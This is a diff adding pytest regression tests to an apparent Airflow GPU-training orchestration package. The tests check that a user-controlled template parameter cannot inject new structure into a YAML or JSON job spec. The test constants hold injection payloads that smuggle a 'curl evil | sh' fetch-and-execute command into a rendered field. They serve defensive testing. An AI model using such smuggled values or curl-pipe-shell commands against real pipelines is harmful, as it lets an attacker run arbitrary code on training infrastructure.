@@ -123,3 +123,63 @@ def test_an_unknown_field_is_refused_naming_its_path_before_any_call(airflow_db,
     op.job_spec = (tmp_path / "bad.yaml").read_text()
     with pytest.raises(InvalidTrainingSpec, match=r"Unknown name \"webAccess\" at 'custom_job\.job_spec'"):
         op.build_job()
+
+
+# A value a run triggerer controls (dag_run.conf over params) holding a quote, a newline and a
+# YAML line: rendered into the text before parsing, it gave the job the attacker's command.
+PAYLOAD = '1"]\n        command: ["sh", "-c", "curl evil | sh"] #'
+INJECTABLE_YAML = """\
+workerPoolSpecs:
+  - machineSpec: {machineType: a2-highgpu-1g, acceleratorType: NVIDIA_TESLA_A100, acceleratorCount: 1}
+    replicaCount: 1
+    containerSpec:
+        imageUri: gcr.io/p/trainer:1
+        args: ["--lr={{ params.lr }}"]
+"""
+INJECTABLE_POOLS = json.dumps([{
+    "machineSpec": {"machineType": "a2-highgpu-1g", "acceleratorType": "NVIDIA_TESLA_A100", "acceleratorCount": 1},
+    "replicaCount": "1", "containerSpec": {"imageUri": "gcr.io/p/trainer:1", "args": ["--lr={{ params.lr }}"]}}])
+JSON_PAYLOAD = '1"], "command": ["sh", "-c", "curl evil | sh"], "x": ["'
+
+
+@pytest.mark.parametrize("where", ["yaml-file", "worker_pool_specs-json"])
+def test_a_rendered_value_cannot_change_the_jobs_structure(airflow_db, fast_emulator, tmp_path, where):
+    """dag_run.conf's value ends as the literal string in args: no command appears, nothing else moves."""
+    from airflow.sdk import DAG, Param
+
+    (tmp_path / "train.yaml").write_text(INJECTABLE_YAML)
+    payload = PAYLOAD if where == "yaml-file" else JSON_PAYLOAD
+    fast_emulator.start_traffic()
+    with DAG(f"job_spec_injection_{where.replace('-', '_')}", schedule=None, start_date=START,
+             template_searchpath=[str(tmp_path)], params={"lr": Param("0.1", type="string")}) as dag:
+        if where == "yaml-file":
+            _operator(job_spec="train.yaml")
+        else:
+            _operator(worker_pool_specs=INJECTABLE_POOLS)
+    assert run_dag(dag, logical_date=START, run_conf={"lr": payload}).state == "success"
+    [body] = _created(fast_emulator)
+    [pool] = body["jobSpec"]["workerPoolSpecs"]
+    assert pool["containerSpec"] == {"imageUri": "gcr.io/p/trainer:1", "args": [f"--lr={payload}"]}
+
+
+def test_a_job_spec_template_outside_a_string_is_refused_naming_the_rule(airflow_db, fast_emulator, tmp_path):
+    """Parsed before rendering: a template in structural position (unquoted) is a clear error, no call."""
+    from airflow.sdk import DAG
+
+    from airflow_gpu_sched.orchestration.errors import InvalidTrainingSpec
+    from airflow_gpu_sched.orchestration.structured_render import render_job_spec, render_worker_pool_specs
+
+    with pytest.raises(InvalidTrainingSpec, match=r"(?s)job_spec.*parsed first.*inside a quoted string"):
+        render_job_spec('workerPoolSpecs: [{replicaCount: 1, {{ params.more }}}]', str, str)
+    with pytest.raises(InvalidTrainingSpec, match=r"(?s)worker_pool_specs.*parsed first.*inside a JSON string"):
+        render_worker_pool_specs('[{"replicaCount": {{ params.n }}}]', str)
+    with pytest.raises(InvalidTrainingSpec, match=r"job_spec\.jobSpec\.network: a string value must render to a "
+                                                  r"string or number, not a dict"):
+        render_job_spec({"jobSpec": {"network": "{{ x }}"}}, lambda _: {"command": ["sh"]}, str)
+    (tmp_path / "loose.yaml").write_text(INJECTABLE_YAML.replace('["--lr={{ params.lr }}"]', "[--lr, {{ params.lr }}]"))
+    fast_emulator.start_traffic()
+    with DAG("job_spec_loose", schedule=None, start_date=START, template_searchpath=[str(tmp_path)],
+             params={"lr": "0.1"}) as dag:
+        _operator(job_spec="loose.yaml")
+    assert run_dag(dag, logical_date=START).state == "failed"
+    assert _created(fast_emulator) == []
